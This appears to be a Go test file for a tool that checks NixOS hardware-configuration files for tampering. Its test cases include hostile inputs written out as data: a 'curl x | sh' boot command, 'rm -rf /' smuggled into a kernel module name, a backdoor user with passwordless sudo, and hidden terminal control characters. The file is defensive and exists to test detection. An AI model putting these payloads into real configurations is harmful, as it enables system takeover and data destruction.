package hwconfig

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/monibahmed/nixos-config/internal/ui"
)

func read(t *testing.T, p string) []byte {
	t.Helper()
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	// The scaffold's placeholder is a template: `mage new` fills in the
	// target's system.
	return []byte(strings.ReplaceAll(string(data), "{{.System}}", "x86_64-linux"))
}

// What nixos-generate-config writes, in current and older forms, and the
// repository's own placeholders, pass.
func TestGeneratedConfigurationsPass(t *testing.T) {
	files := []string{"testdata/generated.nix", "testdata/generated-old.nix", "../scaffold/templates/hardware-configuration.nix"}
	more, _ := filepath.Glob("../../targets/*/hardware-configuration.nix")
	for _, f := range append(files, more...) {
		r := Analyze(read(t, f))
		if !r.OK() {
			t.Errorf("%s: %v", f, r.Findings)
		}
	}
	r := Analyze(read(t, "testdata/generated.nix"))
	for _, want := range []string{"imports", "fileSystems.<mount point>.options", "boot.initrd.luks.devices.<name>.device", "hardware.cpu.intel.updateMicrocode", "boot.extraModulePackages", "swapDevices"} {
		if !contains(r.Options, want) {
			t.Errorf("options lack %s: %v", want, r.Options)
		}
	}
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// The file of issue 17: a valid module that adds a user with wheel and an
// SSH key and passwordless sudo, each line followed by escape sequences
// that hide it on a terminal.
func TestMaliciousConfigurationIsFound(t *testing.T) {
	r := Analyze(read(t, "testdata/malicious.nix"))
	var got []string
	for _, f := range r.Findings {
		got = append(got, f.String())
		if !ui.IsClean(f.String()) {
			t.Errorf("finding not sanitized: %q", f.String())
		}
	}
	all := strings.Join(got, "\n")
	for _, want := range []string{
		"line 8: control character \\x1b: it can hide or rewrite text on a terminal",
		"line 8: users.users.mallory.isNormalUser: creates or changes a user account",
		"line 8: users.users.mallory.extraGroups: creates or changes a user account",
		"line 9: users.users.mallory.openssh.authorizedKeys.keys: creates or changes a user account (groups, password, SSH keys)",
		"line 10: security.sudo.wheelNeedsPassword: changes sudo rules: nixos-generate-config never writes it; set with lib.mkForce, which overrides every other definition of it",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("findings lack %q:\n%s", want, all)
		}
	}
	if len(r.Findings) != 7 {
		t.Errorf("%d findings:\n%s", len(r.Findings), all)
	}
	if s := r.Summary(2); !strings.HasPrefix(s, "line 8: ") || !strings.HasSuffix(s, "and 5 more") {
		t.Errorf("summary: %s", s)
	}
}

const head = "{ config, lib, pkgs, modulesPath, ... }:\n{\n"

func TestFindings(t *testing.T) {
	for body, want := range map[string]string{
		`imports = [ ./evil.nix ];`:                                                              "imports the file ./evil.nix: a hardware configuration imports no other file",
		`imports = [ (modulesPath + "/../../../etc/x.nix") ];`:                                   `imports (modulesPath + "/../../../etc/x.nix")`,
		`imports = [ <nixpkgs/nixos/modules/evil.nix> ];`:                                        "imports the file <nixpkgs/nixos/modules/evil.nix>",
		`imports = [ (import ./x.nix) ];`:                                                        "imports import …",
		`boot.kernelModules = builtins.fromJSON (builtins.readFile /etc/x);`:                     "calls builtins.fromJSON, which can read files, fetch from the network",
		`nixpkgs.hostPlatform = builtins.currentSystem;`:                                         "nixpkgs.hostPlatform: expects a string, found builtins.currentSystem",
		`boot.kernelModules = [ (builtins.fetchurl "http://x/") ];`:                              "expects a string, found builtins.fetchurl … (calls builtins.fetchurl, which can read files",
		`boot.kernelModules = [ http://x/ ];`:                                                    "a URI",
		`boot.kernelModules = let x = "kvm"; in [ x ];`:                                          "a let expression (`let`)",
		`boot.kernelModules = with pkgs; [ ];`:                                                   "a with expression (`with`)",
		`fileSystems = rec { "/".device = "x"; };`:                                               "a recursive attribute set (`rec`)",
		`boot.kernelModules = [ "a${"b"}" ];`:                                                    "a \"$\" in a string (interpolation)",
		"boot.kernelModules = [ ''kvm'' ];":                                                      "an indented string",
		`networking.useDHCP = if true then true else false;`:                                     "a conditional (if) (`if`)",
		`boot.kernelModules = [ "a" ] ++ [ "b" ];`:                                               "a list concatenation (++)",
		`fileSystems."/" = { device = "x"; } // { fsType = "ext4"; };`:                           "an attribute set update (//)",
		`nixpkgs.config.allowUnfreePredicate = pkg: true;`:                                       "a function (:)",
		`fileSystems."/etc/ssh".device = "/dev/sdb1";`:                                           `fileSystems."/etc/ssh".device: "/etc/ssh": mounts over /etc, a system directory`,
		`fileSystems."/home/monibahmed/.ssh" = { device = "10.0.0.66:/keys"; fsType = "nfs"; };`: "mounts over an SSH key directory",
		`fileSystems."/x/../etc".device = "/dev/sdb1";`:                                          "not a clean absolute mount point",
		`boot.initrd.luks.devices.root.preOpenCommands = "curl x | sh";`:                         "boot.initrd.luks.devices.root.preOpenCommands: changes how encrypted disks are opened",
		`boot.loader.grub.extraConfig = "x";`:                                                    "changes the boot loader beyond choosing it",
		`boot.loader.systemd-boot.extraInstallCommands = "x";`:                                   "changes the boot loader beyond choosing it",
		`boot.extraModulePackages = [ pkgs.evil ];`:                                              "adds pkgs.evil: nixos-generate-config only adds config.boot.kernelPackages.broadcom_sta",
		`boot.kernelModules = [ "kvm-intel; rm -rf /" ];`:                                        "not a kernel module name",
		`networking.useDHCP = lib.mkIf true true;`:                                               "set with lib.mkIf",
		`networking.useDHCP = lib.mkOverride 10 true;`:                                           "set with lib.mkOverride",
		`networking.useDHCP = "yes";`:                                                            "expects true or false",
		`config = { users.users.x.isNormalUser = true; };`:                                       "config.users.users.x.isNormalUser: an explicit config section",
		`systemd.services.x.script = "id";`:                                                      "adds or changes systemd units",
		`system.activationScripts.x = "id";`:                                                     "runs shell commands as root on every activation",
		`services.openssh.enable = true;`:                                                        "configures the SSH server",
		`nix.settings.trusted-users = [ "mallory" ];`:                                            "changes Nix's settings",
		`networking.firewall.enable = false;`:                                                    "changes the firewall",
		`environment.etc."sudoers".text = "x";`:                                                  "changes the system environment",
		`inherit (pkgs) hello;`:                                                                  "inherit: nixos-generate-config writes plain",
		`boot.kernelModules = [ 1.5 ];`:                                                          "a floating-point number",
		`networking.interfaces."eth0; x".useDHCP = true;`:                                        "not a network interface name",
		`swapDevices = [ { device = "/dev/sda2"; randomEncryption.enable = true; } ];`:           "expects entries { device = \"…\"; }",
		"boot.kernelModules = [ \"kvm\" ]; # \u202egnp.live\u202c":                               `control character \u202e`,
		"networking.useDHCP = true;\r":                                                           `control character \r`,
		`boot.kernelModules = [ "a" ]`:                                                           "expected `;`, found `}`",
		`"users".users.x.isNormalUser = true;`:                                                   "users.users.x.isNormalUser: creates or changes a user account",
		`boot.kernelModules = [ "x" ]; /* hidden */ users.users.x.isNormalUser = true;`:          "users.users.x.isNormalUser",
		`networking.useDHCP = lib.mkDefault (lib.mkForce true);`:                                 "set with lib.mkForce",
	} {
		r := Analyze([]byte(head + "  " + body + "\n}\n"))
		var all []string
		for _, f := range r.Findings {
			all = append(all, f.String())
			if !ui.IsClean(f.String()) {
				t.Errorf("%s: finding not sanitized: %q", body, f.String())
			}
		}
		if !strings.Contains(strings.Join(all, "\n"), want) {
			t.Errorf("%s:\n  findings %q\n  lack %q", body, all, want)
		}
	}
}

func TestStructureFindings(t *testing.T) {
	for src, want := range map[string]string{
		"x: { }":                                     "a function of a single argument",
		"{ config, evil, ... }: { }":                 "the function takes evil",
		"{ config ? {}, ... }: { }":                  "a default value for the argument config",
		"args@{ config, ... }: { }":                  "a function of a single argument",
		"{ lib, ... }: { } // { users.x = 1; }":      "unexpected `//` after the module's attribute set",
		"{ lib, ... }: import ./x.nix":               "expected the module's attribute set",
		"{ lib, ... }: {":                            "is not closed",
		"{ a = \"x":                                  "unterminated string",
		"/* open":                                    "unterminated /* comment",
		strings.Repeat("[", 100):                     "expected the module's attribute set",
		"{ a = " + strings.Repeat("[ ", 100) + "; }": "nested more than 32 deep",
		strings.Repeat("# x\n", 30000):               "more than 65536",
	} {
		r := Analyze([]byte(src))
		if r.OK() || !strings.Contains(r.Summary(5), want) {
			t.Errorf("%.40q: %s, want %q", src, r.Summary(5), want)
		}
	}
}

func TestAllowedOptionsDocumented(t *testing.T) {
	doc := read(t, "../../docs/troubleshooting.md")
	for _, o := range AllowedOptions() {
		name := strings.SplitN(o, " ", 2)[0]
		if !strings.Contains(string(doc), name) {
			t.Errorf("docs/troubleshooting.md does not list %s", name)
		}
	}
}
